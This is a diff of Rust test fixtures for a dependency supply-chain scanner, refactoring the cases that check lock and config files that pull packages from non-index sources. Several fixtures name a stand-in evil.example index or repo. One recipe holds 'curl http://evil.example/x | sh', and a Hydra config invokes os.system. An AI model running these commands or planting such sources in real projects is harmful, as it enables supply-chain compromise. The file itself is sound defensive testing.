@@ -8,7 +8,7 @@ const NAME: &str = "requirements.txt";
 /// The items of the family.
 #[must_use]
 pub(crate) fn items() -> Vec<Item> {
-    [sources(), twins(), locks(), lookalikes(), odd(), builds(), environments(), honest()]
+    [sources(), twins(), pipenv(), locks(), settings(), lookalikes(), odd(), builds(), environments(), honest()]
         .into_iter()
         .flatten()
         .collect()
@@ -110,32 +110,34 @@ fn twins() -> Vec<Item> {
     ]
 }
 
-/// What tools lock, and their settings.
-fn locks() -> Vec<Item> {
-    let bad = |name: &str, path: &str, text: &str| item(name, Suspect, path, text).fires(&["requirement-source"]);
-    let good = |name: &str, path: &str, text: &str| {
-        item(name, Safe, path, text).quiet(&["requirement-source", "requirement-unsupported", "requirement-lookalike"])
-    };
+/// A file that takes something from elsewhere than the index.
+fn elsewhere(name: &str, path: &str, text: &str) -> Item {
+    item(name, Suspect, path, text).fires(&["requirement-source"])
+}
+
+/// A file that takes everything from there.
+fn plain(name: &str, path: &str, text: &str) -> Item {
+    item(name, Safe, path, text).quiet(&["requirement-source", "requirement-unsupported", "requirement-lookalike"])
+}
+
+/// What pipenv locks.
+fn pipenv() -> Vec<Item> {
     let pipenv = |url: &str, package: &str| {
         format!(
             r#"{{"_meta": {{"hash": {{"sha256": "00"}}, "sources": [{{"name": "pypi", "url": "{url}", "verify_ssl": true}}]}},
             "default": {{"torch": {package}}}, "develop": {{}}}}"#
         )
     };
-    let plain = r#"{"hashes": ["sha256:00"], "version": "==2.3.0"}"#;
-    let poetry = |more: &str| format!("# @generated\n\n[[package]]\nname = \"torch\"\nversion = \"2.4.1\"\n{more}");
-    let uv = |source: &str| {
-        format!("version = 1\n\n[[package]]\nname = \"torch\"\nversion = \"2.4.1\"\nsource = {source}\n")
-    };
+    let package = r#"{"hashes": ["sha256:00"], "version": "==2.3.0"}"#;
     vec![
-        good("pipenv", "Pipfile.lock", &pipenv("https://pypi.org/simple", plain)),
-        bad("pipenv-index", "Pipfile.lock", &pipenv("https://evil.example/simple", plain)),
-        bad(
+        plain("pipenv", "Pipfile.lock", &pipenv("https://pypi.org/simple", package)),
+        elsewhere("pipenv-index", "Pipfile.lock", &pipenv("https://evil.example/simple", package)),
+        elsewhere(
             "pipenv-git",
             "Pipfile.lock",
             &pipenv("https://pypi.org/simple", r#"{"git": "https://evil.example/x.git", "ref": "main"}"#),
         ),
-        bad(
+        elsewhere(
             "pipenv-file",
             "Pipfile.lock",
             &pipenv("https://pypi.org/simple", r#"{"file": "https://evil.example/x.whl"}"#),
@@ -144,64 +146,88 @@ fn locks() -> Vec<Item> {
             "pipenv-lookalike",
             Suspect,
             "Pipfile.lock",
-            &pipenv("https://pypi.org/simple", plain).replace("torch", "torhc"),
+            &pipenv("https://pypi.org/simple", package).replace("torch", "torhc"),
         )
         .fires(&["requirement-lookalike"]),
         item("pipenv-broken", Suspect, "Pipfile.lock", "{\"default\": ").fires(&["json-malformed"]),
-        good("poetry", "poetry.lock", &poetry("")),
-        good(
+    ]
+}
+
+/// What other tools lock.
+fn locks() -> Vec<Item> {
+    let poetry = |more: &str| format!("# @generated\n\n[[package]]\nname = \"torch\"\nversion = \"2.4.1\"\n{more}");
+    let uv = |source: &str| {
+        format!("version = 1\n\n[[package]]\nname = \"torch\"\nversion = \"2.4.1\"\nsource = {source}\n")
+    };
+    vec![
+        plain("poetry", "poetry.lock", &poetry("")),
+        plain(
             "poetry-files",
             "poetry.lock",
             &poetry("files = [{file = \"torch-2.4.1-py3-none-any.whl\", hash = \"sha256:00\"}]\n"),
         ),
-        bad(
+        elsewhere(
             "poetry-git",
             "poetry.lock",
             &poetry("\n[package.source]\ntype = \"git\"\nurl = \"https://evil.example/x.git\"\n"),
         ),
-        bad(
+        elsewhere(
             "poetry-legacy",
             "poetry.lock",
             &poetry("\n[package.source]\ntype = \"legacy\"\nurl = \"https://evil.example/simple\"\n"),
         ),
         item("poetry-lookalike", Suspect, "poetry.lock", &poetry("").replace("torch", "torhc"))
             .fires(&["requirement-lookalike"]),
-        good(
+        plain(
             "uv-lock",
             "uv.lock",
             &uv(
                 "{ registry = \"https://pypi.org/simple\" }\nwheels = [{ url = \"https://files.pythonhosted.org/packages/00/x.whl\", hash = \"sha256:00\" }]",
             ),
         ),
-        good("uv-lock-own", "uv.lock", &uv("{ editable = \".\" }")),
-        bad("uv-lock-registry", "uv.lock", &uv("{ registry = \"https://evil.example/simple\" }")),
-        bad("uv-lock-git", "uv.lock", &uv("{ git = \"https://evil.example/x?rev=main#00\" }")),
-        bad("uv-lock-directory", "uv.lock", &uv("{ directory = \"../x\" }")),
-        bad(
+        plain("uv-lock-own", "uv.lock", &uv("{ editable = \".\" }")),
+        elsewhere("uv-lock-registry", "uv.lock", &uv("{ registry = \"https://evil.example/simple\" }")),
+        elsewhere("uv-lock-git", "uv.lock", &uv("{ git = \"https://evil.example/x?rev=main#00\" }")),
+        elsewhere("uv-lock-directory", "uv.lock", &uv("{ directory = \"../x\" }")),
+        elsewhere(
             "uv-lock-wheel",
             "uv.lock",
             &uv("{ registry = \"https://pypi.org/simple\" }\nwheels = [{ url = \"https://evil.example/x.whl\" }]"),
         ),
-        bad("uv-settings", "uv.toml", "index-url = \"https://evil.example/simple\"\n"),
-        bad("uv-settings-index", "config/uv.toml", "[[index]]\nurl = \"https://evil.example/simple\"\n"),
-        bad(
+    ]
+}
+
+/// Settings of tools, environments and packages of Conda and npm.
+fn settings() -> Vec<Item> {
+    vec![
+        elsewhere("uv-settings", "uv.toml", "index-url = \"https://evil.example/simple\"\n"),
+        elsewhere("uv-settings-index", "config/uv.toml", "[[index]]\nurl = \"https://evil.example/simple\"\n"),
+        elsewhere(
             "pdm-lock",
             "pdm.lock",
             "[[package]]\nname = \"x\"\nversion = \"1.0\"\ngit = \"https://evil.example/x.git\"\n",
         ),
-        bad("poetry-settings", "poetry.toml", "[repositories.x]\nurl = \"https://evil.example/simple\"\n"),
-        bad(
+        elsewhere("poetry-settings", "poetry.toml", "[repositories.x]\nurl = \"https://evil.example/simple\"\n"),
+        elsewhere(
             "pylock",
             "pylock.toml",
             "[[packages]]\nname = \"x\"\nversion = \"1.0\"\nvcs = {type = \"git\", url = \"https://evil.example/x.git\"}\n",
         ),
-        bad("pip-settings", "pip.conf", "[global]\nindex-url = https://evil.example/simple\n"),
-        bad("condarc", ".condarc", "channels:\n  - https://evil.example/channel\n"),
-        bad("condarc-alias", "condarc", "channel_alias: https://evil.example\n"),
-        good("condarc-plain", "condarc", "channels:\n  - conda-forge\n  - defaults\nalways_yes: true\n"),
-        bad("conda-any-name", "gpu.yaml", "channels:\n  - https://evil.example/channel\ndependencies:\n  - numpy\n"),
-        bad("conda-any-name-pip", "python_env.yml", "dependencies:\n  - pip:\n    - git+https://evil.example/x.git\n"),
-        good("conda-any-name-plain", "gpu.yaml", "channels:\n  - conda-forge\ndependencies:\n  - numpy\n"),
+        elsewhere("pip-settings", "pip.conf", "[global]\nindex-url = https://evil.example/simple\n"),
+        elsewhere("condarc", ".condarc", "channels:\n  - https://evil.example/channel\n"),
+        elsewhere("condarc-alias", "condarc", "channel_alias: https://evil.example\n"),
+        plain("condarc-plain", "condarc", "channels:\n  - conda-forge\n  - defaults\nalways_yes: true\n"),
+        elsewhere(
+            "conda-any-name",
+            "gpu.yaml",
+            "channels:\n  - https://evil.example/channel\ndependencies:\n  - numpy\n",
+        ),
+        elsewhere(
+            "conda-any-name-pip",
+            "python_env.yml",
+            "dependencies:\n  - pip:\n    - git+https://evil.example/x.git\n",
+        ),
+        plain("conda-any-name-plain", "gpu.yaml", "channels:\n  - conda-forge\ndependencies:\n  - numpy\n"),
         item("conda-and-hydra", super::Expect::Dangerous, "environment.yaml", "_target_: os.system\ncommand: id\n")
             .fires(&["hydra-target"]),
         item(
@@ -211,15 +237,19 @@ fn locks() -> Vec<Item> {
             "package:\n  name: x\nbuild:\n  script: curl http://evil.example/x | sh\n",
         )
         .fires(&["requirement-unsupported"]),
-        bad(
+        elsewhere(
             "recipe-source",
             "recipe.yaml",
             "package:\n  name: x\nsource:\n  git_url: https://evil.example/x.git\nbuild:\n  number: 0\n",
         ),
-        good("recipe-none", "meta.yaml", "package: x\nbuild:\n  number: 0\n"),
-        bad("npm-git", "package.json", r#"{"name": "x", "dependencies": {"y": "git+https://evil.example/y.git"}}"#),
-        bad("npm-short", "package.json", r#"{"name": "x", "devDependencies": {"y": "someone/y"}}"#),
-        good(
+        plain("recipe-none", "meta.yaml", "package: x\nbuild:\n  number: 0\n"),
+        elsewhere(
+            "npm-git",
+            "package.json",
+            r#"{"name": "x", "dependencies": {"y": "git+https://evil.example/y.git"}}"#,
+        ),
+        elsewhere("npm-short", "package.json", r#"{"name": "x", "devDependencies": {"y": "someone/y"}}"#),
+        plain(
             "npm",
             "package.json",
             r#"{"name": "x", "scripts": {"test": "jest"}, "dependencies": {"y": "^1.0.0", "z": "npm:w@1"}}"#,
